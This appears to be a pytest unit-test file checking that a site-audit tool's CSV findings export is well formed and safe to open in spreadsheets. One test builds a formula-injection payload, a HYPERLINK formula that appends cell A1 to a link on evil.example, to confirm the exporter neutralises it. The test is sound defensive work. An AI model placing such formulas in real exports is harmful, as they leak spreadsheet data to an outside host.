"""The findings CSV: one row per finding, safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest
from tests.unit.reports.report_factory import make_finding, make_report

from siteaudit.reports import render_findings_csv

HEADER = [
    "check_id",
    "category",
    "severity",
    "url",
    "message",
    "evidence",
    "locator",
    "fingerprint",
]


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_has_the_documented_header_and_one_row_per_finding() -> None:
    report = make_report()
    table = rows(render_findings_csv(report))

    assert table[0] == HEADER
    assert len(table) == 1 + len(report.findings)
    assert {row[7] for row in table[1:]} == {f.fingerprint for f in report.findings}


def test_csv_keeps_commas_quotes_and_newlines_inside_one_cell() -> None:
    evidence = 'a, "quoted"\nsecond line'
    table = rows(render_findings_csv(make_report(findings=(make_finding(evidence=evidence),))))

    assert table[1][5] == evidence


def test_csv_has_no_byte_order_mark() -> None:
    assert render_findings_csv(make_report()).startswith("check_id,category,")


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(prefix: str) -> None:
    payload = f'{prefix}HYPERLINK("https://evil.example/?x="&A1,"click")'
    finding = make_finding(message=payload, evidence=payload, locator=payload)
    row = rows(render_findings_csv(make_report(findings=(finding,))))[1]

    assert row[4] == row[5] == row[6] == "'" + payload


def test_csv_leaves_ordinary_cells_untouched() -> None:
    finding = make_finding(message="Title is 12 characters long.", evidence="a = b")
    row = rows(render_findings_csv(make_report(findings=(finding,))))[1]

    assert row[4] == "Title is 12 characters long."
    assert row[5] == "a = b"


def test_csv_survives_nul_bytes_and_lone_surrogates() -> None:
    finding = make_finding(evidence="a\x00b\ud800c", url="https://example.com/\udfff")
    text = render_findings_csv(make_report(findings=(finding,)))
    row = rows(text.encode("utf-8").decode("utf-8"))[1]

    assert row[5] == "a\ufffdb\ufffdc"
    assert row[3] == "https://example.com/\ufffd"
    assert len(row[7]) == 20


def test_csv_of_a_scan_without_findings_is_just_the_header() -> None:
    assert rows(render_findings_csv(make_report(findings=()))) == [HEADER]
